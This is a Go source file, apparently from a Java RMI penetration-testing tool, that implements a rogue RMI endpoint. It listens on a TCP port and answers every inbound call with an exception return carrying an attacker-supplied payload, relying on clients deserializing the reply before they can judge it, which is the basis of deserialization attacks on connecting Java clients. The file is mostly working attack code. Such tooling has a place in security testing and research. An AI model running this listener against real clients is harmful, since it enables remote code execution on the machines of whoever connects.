package operations

import (
	"context"
	"net"
	"sync/atomic"

	"github.com/pkg/errors"
	"github.com/sirupsen/logrus"

	"github.com/H4cking2theGate/remote-method-guesser/pkg/rmi"
)

// executeListen runs a rogue endpoint. Every inbound call, stream or single
// op, is answered with one exception return whose body is the provider
// payload; clients unmarshal the answer before they can judge it. The
// listener runs until the context is canceled.
func executeListen(ctx context.Context, p *Params, report *Report) error {
	addr := p.ListenAddr
	if addr == "" {
		addr = ":1099"
	}

	payload, err := listenPayload(p)
	if err != nil {
		return err
	}

	ln, err := net.Listen("tcp", addr)
	if err != nil {
		return errors.Wrapf(err, "listening on %s", addr)
	}
	p.Log.WithField("addr", ln.Addr().String()).Info("rogue endpoint listening")

	var served int64
	go func() {
		<-ctx.Done()
		ln.Close()
	}()

	for {
		conn, err := ln.Accept()
		if err != nil {
			if ctx.Err() != nil {
				report.say("listener on %s closed after %d connections", addr, atomic.LoadInt64(&served))
				return nil
			}
			return errors.Wrap(err, "accepting connection")
		}
		atomic.AddInt64(&served, 1)
		go serveConn(conn, payload, p.Options, p.Log)
	}
}

func listenPayload(p *Params) ([]byte, error) {
	if p.PayloadSpec != "" {
		return p.Payloads.ProducePayload(string(OpListen), p.PayloadSpec)
	}
	return rmi.EncodeException("java.rmi.ServerException", "object not exported"), nil
}

// serveConn handles one inbound connection: handshake, then answer calls
// until the peer stops sending.
func serveConn(conn net.Conn, payload []byte, opts rmi.Options, log logrus.FieldLogger) {
	defer conn.Close()
	peer := conn.RemoteAddr().String()
	readTimeout := opts.ReadTimeout
	if readTimeout <= 0 {
		readTimeout = rmi.DefaultReadTimeout
	}

	proto, err := rmi.AcceptHandshake(conn, rmi.DefaultReadTimeout)
	if err != nil {
		log.WithField("peer", peer).WithError(err).Debug("handshake failed")
		return
	}
	log.WithFields(logrus.Fields{"peer": peer, "protocol": proto}).Info("connection accepted")

	for {
		msg, err := rmi.ReadMessage(conn, readTimeout)
		if err != nil || len(msg) == 0 {
			return
		}
		switch msg[0] {
		case rmi.MsgPing:
			conn.Write([]byte{rmi.MsgPingAck})
		case rmi.MsgDgcAck:
			// acknowledgment only, nothing to answer
		case rmi.MsgCall:
			frame, err := rmi.DecodeCall(msg)
			if err != nil {
				log.WithField("peer", peer).WithError(err).Debug("undecodable call")
				return
			}
			log.WithFields(logrus.Fields{
				"peer":      peer,
				"objid":     frame.ObjID.String(),
				"operation": frame.Operation,
				"hash":      frame.Hash,
			}).Info("answering call")
			reply := rmi.EncodeReturn(rmi.ReturnException, rmi.UID{}, payload)
			if _, err := conn.Write(reply); err != nil {
				return
			}
			if proto == rmi.ProtocolSingleOp {
				return
			}
		default:
			log.WithFields(logrus.Fields{"peer": peer, "type": msg[0]}).Debug("unknown message")
			return
		}
	}
}
